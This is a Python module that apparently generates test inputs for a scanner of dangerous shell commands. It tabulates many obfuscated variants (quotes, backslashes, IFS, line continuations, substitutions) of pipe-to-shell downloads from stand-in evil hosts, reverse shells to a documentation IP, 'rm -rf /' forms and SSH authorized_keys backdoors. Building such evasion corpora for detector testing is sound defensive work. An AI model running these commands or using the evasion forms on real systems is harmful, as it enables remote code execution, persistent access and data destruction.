"""Commands that a shell reads as the plain ones: sh(1), bash(1).

Each function returns an attacks.Attack; what varies comes from rnd.
"""
import string

from attacks import ALNUM, B64, Attack, of


def _host(rnd):
    return "%s.evil%d.example" % (of(rnd, string.ascii_lowercase + "12", 12),
                                  rnd.randrange(1000))


def _ip(rnd):
    return "203.0.113.%d" % rnd.randrange(10, 255)


PIPE = {
    "plain": "curl -s https://{h}/i.sh | sh",
    "quotes in words": "c''url -s https://{h}/i.sh | b\"a\"sh",
    "backslashes in words": "c\\url -s https://{h}/i.sh | ba\\sh",
    "IFS": "curl${{IFS}}-s${{IFS}}https://{h}/i.sh${{IFS}}|${{IFS}}sh",
    "bare IFS": "curl$IFS-s$IFS'https://{h}/i.sh'|sh",
    "continued lines": "curl -s \\\n  https://{h}/i.sh \\\n  | \\\n  bash",
    "absolute paths": "/usr/bin/curl -s https://{h}/i.sh | /usr/bin/bash",
    "env": "curl -s https://{h}/i.sh | /usr/bin/env bash",
    "env -i": "env A=1 wget -qO- https://{h}/i.sh | env -i sh",
    "sudo": "sudo -n curl -s https://{h}/i.sh | sudo -E -u root bash -s",
    "nohup": "nohup wget -qO- https://{h}/i.sh | nohup sh",
    "busybox": "busybox wget -qO- https://{h}/i.sh | busybox sh",
    "process substitution": "bash <(curl -s https://{h}/i.sh)",
    "dot": ". <(wget -qO- https://{h}/i.sh)",
    "command substitution": "sh -c \"$(curl -fsSL https://{h}/i.sh)\"",
    "backticks": "eval `curl -s https://{h}/i.sh`",
    "tee between": "curl -s https://{h}/i.sh | tee /tmp/l | sh",
    "decoded": "curl -s https://{h}/i.b64 | base64 -d | sh",
    "both ends quoted": "'curl' '-s' 'https://{h}/i.sh' | 'sh'",
    "no blanks": "curl https://{h}/i.sh|sh",
    "stderr too": "curl -s https://{h}/i.sh |& bash",
    "line behind a pipe": "curl -s https://{h}/i.sh |\n  sh",
    "lines behind pipes": "wget -qO- https://{h}/i.gz |  # get it\n\n"
                          "gunzip |\n\tsudo bash",
    "echoed words": "$(echo curl) -s https://{h}/i.sh | `which sh`",
}
EXEC = {
    "plain": "bash -c 'id; echo {s}'",
    "absolute path": "/usr/bin/bash -c 'id; echo {s}'",
    "env": "/usr/bin/env sh -c 'id; echo {s}'",
    "busybox": "busybox sh -c 'id; echo {s}'",
    "sudo": "sudo -u root bash -c 'id; echo {s}'",
    "quotes in words": "ba''sh -c 'id; echo {s}'",
    "backslashes in words": "s\\h -c 'id; echo {s}'",
    "IFS": "sh${{IFS}}-c${{IFS}}'id; echo {s}'",
    "continued lines": "bash \\\n -c \\\n 'id; echo {s}'",
    "letters together": "bash -lc 'id; echo {s}'",
}
REVERSE = {
    "plain": "bash -i >& /dev/tcp/{ip}/4444 0>&1",
    "quotes in words": "b'a'sh -i >& /dev/tcp/{ip}/4444 0>&1",
    "absolute path": "/bin/bash -i >& /dev/tcp/{ip}/4444 0>&1",
    "IFS": "bash${{IFS}}-i${{IFS}}>&${{IFS}}/dev/tcp/{ip}/4444${{IFS}}0>&1",
    "nohup": "nohup bash -i >& /dev/tcp/{ip}/4444 0>&1 &",
    "busybox nc": "busybox nc {ip} 4444 -e /bin/sh",
    "nc": "/usr/bin/nc -e /bin/sh {ip} 4444",
    "fifo": "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc {ip} 9 >/tmp/f",
    "socat": "socat TCP:{ip}:4444 EXEC:/bin/sh,pty",
    "continued lines": "bash -i \\\n  >& /dev/tcp/{ip}/4444 \\\n  0>&1",
}
RM = {
    "plain": "rm -rf /",
    "flags apart": "rm -r -f /",
    "long flags": "rm --recursive --force /",
    "flags last": "rm / -rf",
    "quotes in words": "r''m -rf /",
    "backslashes in words": "r\\m -rf /",
    "IFS": "rm${{IFS}}-rf${{IFS}}/",
    "continued lines": "rm \\\n  -rf \\\n  /",
    "absolute path": "/bin/rm -rf /home",
    "env": "env rm -rf /",
    "sudo": "sudo -n rm -rf /usr",
    "nohup": "nohup rm -rf / &",
    "busybox": "busybox rm -rf /",
    "quoted path": "rm -rf \"/\"",
    "home": "rm -rf \"$HOME\"",
    "echoed word": "$(echo rm) -rf /",
    "printed word": "`printf rm` -rf /home",
    "line behind an or": "false ||\n  r''m -rf /usr",
}
KEYS = {
    "plain": "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{k} a@b' >> "
             "~/.ssh/authorized_keys",
    "tee": "echo \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{k} a@b\" | "
           "sudo tee -a /root/.ssh/authorized_keys",
    "no blanks": "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{k} a@b'>>"
                 "~/.ssh/authorized_keys",
    "IFS": "echo${{IFS}}'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{k} a@b'"
           "${{IFS}}>>${{IFS}}~/.ssh/authorized_keys",
    "continued lines": "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{k} "
                       "a@b' \\\n  >> ~/.ssh/authorized_keys",
    "quotes in path": "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{k} a@b' "
                      ">> ~/'.ssh'/\"authorized_keys\"",
}
SHAPES = {"pipe_to_shell": PIPE, "shell_exec_flag": EXEC,
          "reverse_shell": REVERSE, "destructive_rm": RM,
          "ssh_authorized_key": KEYS}


def shapes(rnd):
    """(name, Attack) of every shape."""
    for pattern, table in SHAPES.items():
        for name, form in table.items():
            h, ip = _host(rnd), _ip(rnd)
            s, k = of(rnd, ALNUM, 20), of(rnd, B64, 64)
            text = form.format(h=h, ip=ip, s=s, k=k)
            secrets = [x for x in (h[:12], ip, s, k) if x in text]
            yield name, Attack(pattern, text, secrets)
